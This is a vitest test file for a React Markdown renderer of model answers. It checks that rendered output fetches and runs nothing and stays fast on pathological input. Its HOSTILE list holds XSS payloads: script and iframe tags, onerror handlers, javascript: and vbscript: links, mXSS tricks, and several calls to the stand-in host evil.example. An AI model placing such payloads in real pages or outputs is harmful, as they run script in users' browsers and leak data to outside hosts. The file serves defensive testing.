import { MantineProvider } from "@mantine/core";
import { render } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { blocksOf } from "../../../state/blocks";
import { Markdown } from "./Markdown";

function draw(text: string): HTMLElement {
  const { container } = render(
    <MantineProvider>
      <Markdown blocks={blocksOf(text)} />
    </MantineProvider>,
  );
  const drawn = container.querySelector<HTMLElement>("[data-markdown]");
  if (drawn === null) throw new Error("Nothing was drawn.");
  return drawn;
}

const REMOTE = "https://evil.example/x";
const ACTIVE = "script, style, iframe, object, embed, link, meta, base, form, svg, math, video, audio, source, a[href]";

/** Attributes that make a window fetch, follow or run something. */
function dangerous(container: HTMLElement): string[] {
  return [...container.querySelectorAll("*")].flatMap((element) =>
    [...element.attributes]
      .filter(({ name, value }) => {
        if (name === "src") return !/^(data:image\/|blob:)/i.test(value);
        return /^(on|href|srcset|action|formaction|poster|background|ping|xlink:href|srcdoc)/i.test(name);
      })
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  );
}

const HOSTILE: [string, string][] = [
  ["remote picture", `![x](${REMOTE}.png)`],
  ["remote picture by reference", `![x][r]\n\n[r]: ${REMOTE}.png`],
  ["protocol-relative picture", "![x](//evil.example/x.png)"],
  ["picture with spaces and case", "![x]( HtTpS://evil.example/x.png )"],
  ["data document as picture", "![x](data:text/html;base64,PHNjcmlwdD4=)"],
  ["image tag", `<img src="${REMOTE}">`],
  ["image tag with handler", "<img src=x onerror=alert(1)>"],
  ["script tag", "<script>fetch('https://evil.example')</script>"],
  ["script in a block", "text\n\n<script src=https://evil.example/a.js></script>\n\ntext"],
  ["style tag", "<style>@import url(https://evil.example/a.css)</style>"],
  ["style attribute", `<p style="background:url(${REMOTE})">x</p>`],
  ["link tag", `<link rel="stylesheet" href="${REMOTE}">`],
  ["prefetch", `<link rel="dns-prefetch" href="//evil.example">`],
  ["iframe", `<iframe src="${REMOTE}"></iframe>`],
  ["object", `<object data="${REMOTE}"></object>`],
  ["svg with script", "<svg><script>alert(1)</script><image href='https://evil.example/x'/></svg>"],
  ["base tag", `<base href="${REMOTE}">`],
  ["meta refresh", `<meta http-equiv="refresh" content="0;url=${REMOTE}">`],
  ["form", `<form action="${REMOTE}"><button>x</button></form>`],
  ["video", `<video src="${REMOTE}" autoplay></video>`],
  ["javascript link", "[x](javascript:alert(1))"],
  ["javascript link with entities", "[x](java&#115;cript:alert&#40;1&#41;)"],
  ["javascript link with a tab", "[x](java\tscript:alert(1))"],
  ["javascript autolink", "<javascript:alert(1)>"],
  ["vbscript link", "[x](vbscript:msgbox(1))"],
  ["data link", "[x](data:text/html,<script>alert(1)</script>)"],
  ["file link", "[x](file:///etc/passwd)"],
  ["attribute break-out in a title", `[x](https://example.com "a\\" onmouseover=alert(1) b")`],
  ["attribute break-out in alt text", `![" onerror="alert(1)](${REMOTE})`],
  ["math and mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"],
  ["comment trick", "<!--><img src=x onerror=alert(1)>-->"],
  ["CDATA", "<![CDATA[<img src=x onerror=alert(1)>]]>"],
  ["HTML in a table", `| a |\n|---|\n| <img src=${REMOTE}> |`],
  ["HTML in a code language", "```<img/src=x/onerror=alert(1)>\nx\n```"],
  ["footnote", `x[^1]\n\n[^1]: ![y](${REMOTE})`],
];

describe("markdown of a model", () => {
  it.each(HOSTILE)("w1_w2_%s makes the window fetch and run nothing", (_name, text) => {
    const container = draw(text);
    // The one picture that is ours: the icon of the copy button.
    const active = [...container.querySelectorAll(ACTIVE)].filter((element) => !element.matches("svg.tabler-icon"));
    expect(active.map(({ outerHTML }) => outerHTML)).toEqual([]);
    expect(dangerous(container)).toEqual([]);
  });

  it("w1_html_is_shown_as_text", () => {
    expect(draw("before <b>bold</b> after").textContent).toContain("<b>bold</b>");
  });

  it("w1_a_picture_in_the_text_itself_is_shown", () => {
    const source = "data:image/png;base64,iVBORw0KGgo=";
    expect(draw(`![dot](${source})`).querySelector("img")?.getAttribute("src")).toBe(source);
  });

  it("w2_script_in_a_plain_text_stays_text", () => {
    const text = "a <script>alert(1)</script> b";
    expect(draw(text).textContent).toContain("<script>alert(1)</script>");
  });

  it.each([
    ["quotes", ">".repeat(8000)],
    ["brackets", "[".repeat(8000)],
    ["emphasis", "*a ".repeat(2500)],
    ["lists", Array.from({ length: 80 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n")],
  ])("w4_ten_thousand_%s are drawn in two seconds and not deep", (_name, text) => {
    const started = performance.now();
    const container = draw(text);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(depthOf(container)).toBeLessThan(40);
  });

  it("draws tables, task lists and code with its language", () => {
    const container = draw("| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```js\nconst a = 1;\n```");
    expect(container.querySelectorAll("td")).toHaveLength(2);
    expect(container.querySelector("input")?.checked).toBe(true);
    expect(container.querySelector(".hljs-keyword")?.textContent).toBe("const");
    expect(container.querySelector("button[aria-label='Copy code']")).not.toBeNull();
  });

  it("draws the beginning of a 4 MiB answer, and more on demand", () => {
    const paragraph = `${"word ".repeat(200)}\n\n`;
    const started = performance.now();
    const container = draw(paragraph.repeat(4096));
    expect(performance.now() - started).toBeLessThan(3000);
    expect(container.textContent).toContain("Show more");
  });
});

function depthOf(element: Element): number {
  let deepest = 0;
  for (let level: Element[] = [element]; level.length > 0; level = level.flatMap((one) => [...one.children]))
    deepest += 1;
  return deepest;
}
